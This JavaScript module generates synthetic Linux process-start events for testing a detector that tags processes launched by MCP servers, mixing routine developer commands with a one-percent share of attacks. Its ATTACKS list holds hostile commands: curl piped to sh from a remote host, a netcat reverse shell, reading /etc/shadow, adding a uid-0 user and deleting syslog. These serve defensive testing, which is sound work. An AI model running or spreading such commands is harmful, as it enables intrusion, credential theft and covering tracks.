// Process starts of an everyday Linux host, some 400 bytes each as JSON, one in a hundred of them an attack.

/** Numbers that are the same in each run (Mulberry32). */
export function dice(seed) {
  let state = seed;
  const next = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
  return { next, of: (choices) => choices[Math.floor(next() * choices.length)] };
}

const FILES = [
  'src/index.ts',
  'lib/parser.c',
  'README.md',
  'docs/setup.md',
  'package.json',
  'test/main.test.ts',
  'Makefile',
];
const DIRECTORIES = [
  '/home/dev/project',
  '/home/dev/work/api',
  '/srv/app/current',
  '/home/dev/go/src/tool',
  '/var/lib/ci/job-4711',
];
const NAMES = [
  'main',
  'feature/login-form',
  'fix-1234',
  'release-2.4',
  'origin/develop',
  'HEAD~3',
  'v1.0.12',
];

/** Programs with what they are usually given; `F` a file, `D` a directory, `N` a name, `#` a number. */
const EVERYDAY = [
  [
    '/usr/bin/git',
    'status --porcelain=v2 --branch',
    'log --oneline -n # N',
    'diff --no-ext-diff N -- F',
    'rev-parse --abbrev-ref N',
    'fetch --prune origin',
  ],
  [
    '/usr/bin/node',
    'D/node_modules/.bin/tsc --build --verbose',
    'D/node_modules/.bin/eslint F --fix',
    'D/dist/server.js --port #',
    '--max-old-space-size=# F',
  ],
  [
    '/usr/bin/python3.11',
    '-m pytest -q F',
    'D/manage.py migrate --noinput',
    '-m pip list --format=json',
    'D/tools/report.py --out D/out-#.csv',
  ],
  [
    '/usr/bin/gcc',
    '-O2 -Wall -c F -o build/obj-#.o',
    '-std=c17 -Iinclude -DNDEBUG -c F',
    '-shared -o libtool.so.# obj-#.o',
  ],
  [
    '/usr/lib/gcc/x86_64-linux-gnu/12/cc1',
    '-quiet -imultiarch x86_64-linux-gnu F -dumpdir build/ -O2 -o D/cc-#.s',
  ],
  ['/usr/bin/make', '-j# all', '-C D install-strip', 'check VERBOSE=#'],
  ['/usr/bin/grep', '-rn --include=*.ts handler D', '-c error D/app.log', '-E "^[0-9]+" F'],
  ['/usr/bin/find', 'D -name "*.log" -mtime +#', 'D -type f -newer F'],
  ['/usr/bin/ls', '-la D', '--color=auto D/src', '-1t'],
  ['/usr/bin/cat', 'F', 'D/config.yml D/extra.yml'],
  ['/usr/bin/sed', '-n #,#p F', '-i s/foo/bar/ F'],
  ['/usr/bin/tar', 'czf D/backup-#.tgz src', 'xf D/dist-#.tar'],
  ['/usr/bin/docker', 'ps --format json', 'build -t tool:# D', 'logs --tail # web'],
  ['/usr/bin/ssh', '-o BatchMode=yes build#.example.org uptime', 'deploy@host#.example.org true'],
  [
    '/usr/bin/curl',
    '-fsS https://api.example.org/v1/items?page=#',
    '-sSL https://registry.example.org/tool/-/tool-#.tgz -o D/tool.tgz',
  ],
  ['/bin/sh', '-c "test -f F && echo yes"', '-c "cd D && ./configure --prefix=/opt/tool"'],
  ['/usr/bin/bash', 'D/scripts/release.sh --dry-run N', '-c "for f in D/*; do echo $f; done"'],
  ['/usr/bin/systemctl', 'is-active nginx.service', 'show --property=MainPID tool-#.service'],
  ['/usr/sbin/cron', '-f'],
  ['/usr/bin/rsync', '-a --delete D/ D/copy-#/'],
];

const ATTACKS = [
  ['/usr/bin/curl', '-s http://198.51.100.7/x.sh -o /tmp/x.sh'],
  ['/bin/sh', '-c "curl http://198.51.100.7/x | sh"'],
  ['/usr/bin/nc', '-e /bin/sh 198.51.100.7 4444'],
  ['/usr/bin/base64', '-d /tmp/.payload'],
  ['/usr/bin/crontab', '-l'],
  ['/usr/bin/cat', '/etc/shadow'],
  ['/usr/bin/chmod', '777 /tmp/a'],
  ['/usr/bin/python3', '-c "import pty; pty.spawn(\'/bin/bash\')"'],
  ['/usr/sbin/useradd', '-o -u 0 toor'],
  ['/usr/bin/rm', '-rf /var/log/syslog'],
];

/** Bytes of an event as JSON. */
const SIZE = 400;

/** What the agent adds to an event of a process that an MCP server started. */
const OF_A_SERVER = {
  'mcp.server': 'files',
  'mcp.client': 'claude-code',
  'mcp.server_id': '5f2b9c0d7e1a4638',
  'mcp.state': 'approved',
  'mcp.ruling': 'allow',
  'mcp.in_subtree': true,
  'mcp.in_launch_chain': false,
  'mcp.is_server': false,
  'mcp.is_launcher': false,
  'mcp.policy': 'none',
  'mcp.disguised_shell': false,
  'mcp.script': null,
  'mcp.truncated': false,
  'mcp.privileged_image': false,
  'mcp.in_user_namespace': false,
  'mcp.image_links': 1,
  'mcp.prevented': null,
  'mcp.loader_variables': [],
  'mcp.loader_values': [],
  'mcp.uid_before': 1000,
  'mcp.gained_root': false,
  'mcp.gained_capabilities': false,
};

/**
 * @param isOfServer whether they are of processes that an MCP server started
 * @returns events as lines of JSON, with their log source
 */
export function eventLines(count, isOfServer, seed = 7) {
  const { next, of } = dice(seed);
  const filled = (template) =>
    template.replaceAll(/\b[FDN]\b|#/g, (mark) => {
      if (mark === 'F') return `${of(DIRECTORIES)}/${of(FILES)}`;
      if (mark === 'D') return of(DIRECTORIES);
      return mark === 'N' ? of(NAMES) : String(Math.floor(next() * 9_000) + 100);
    });
  const program = (list) => {
    const [image, ...templates] = of(list);
    const name = image.split('/').at(-1);
    return { image, command: `${name} ${filled(of(templates))}` };
  };
  return Array.from({ length: count }, (_, index) => {
    const { image, command } = program(next() < 0.01 ? ATTACKS : EVERYDAY);
    const parent = program(EVERYDAY);
    const event = {
      logsource: { category: 'process_creation', product: 'linux' },
      Image: image,
      CommandLine: command,
      ParentImage: parent.image,
      ParentCommandLine: parent.command,
      CurrentDirectory: of(DIRECTORIES),
      User: of(['dev', 'root', 'ci', 'www-data']),
      ProcessId: 10_000 + index,
      ParentProcessId: 1_000 + (index % 500),
      LogonId: '1000',
    };
    if (isOfServer) {
      const [called = '', ...words] = command.split(' ');
      const more = { 'mcp.called': called, 'mcp.arguments': words.join(' ') };
      return JSON.stringify({ ...event, ...OF_A_SERVER, ...more });
    }
    const missing = SIZE - JSON.stringify(event).length - 1;
    return JSON.stringify(missing <= 0 ? event : { ...event, CommandLine: padded(command, missing, of) });
  });
}

/** A command line with further options up to the size. */
function padded(command, bytes, of) {
  let more = '';
  while (more.length < bytes)
    more += ` ${of(['--quiet', '--no-color', '--jobs=4', '--cache', '--env=test', '--strict', '-x', '--tag=nightly'])}`;
  return command + more.slice(0, bytes);
}
